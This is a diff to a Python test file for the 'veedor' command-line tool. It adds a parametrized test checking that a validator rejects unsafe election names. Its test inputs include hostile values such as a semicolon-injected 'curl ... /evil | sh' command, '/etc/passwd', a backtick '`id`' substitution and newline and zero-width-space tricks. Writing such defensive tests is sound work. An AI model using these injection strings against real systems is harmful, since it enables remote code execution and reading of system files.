@@ -10,7 +10,7 @@ import typer
 from typer.testing import CliRunner
 
 from veedor.cli import report
-from veedor.dossier.manifest import name_in_commands
+from veedor.dossier.manifest import is_name_in_commands, name_in_commands
 from veedor.errors import MissingDataError, VeedorError
 
 RUNNER = CliRunner()
@@ -66,6 +66,29 @@ def test_commands_on_the_pages_name_the_election_by_one_word(name: str) -> None:
         "'a;b'",
         "'Potosí'",
     ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x; curl http://127.0.0.1/evil | sh #",
+        "--data=/etc",
+        "/etc/passwd",
+        "'town\nveedor: all the same'",
+        "'town",
+        "town --skip-bad-rows",
+        "$HOME",
+        "`id`",
+        "town#x",
+        '"town"',
+        "",
+        "''",
+        "'a\u200bb'",
+        "~/x",
+    ],
+)
+def test_verify_takes_no_other_text_for_the_name_of_an_election(text: str) -> None:
+    assert not is_name_in_commands(text)
 
 
 def test_a_path_of_this_machine_is_not_written_into_the_pages(
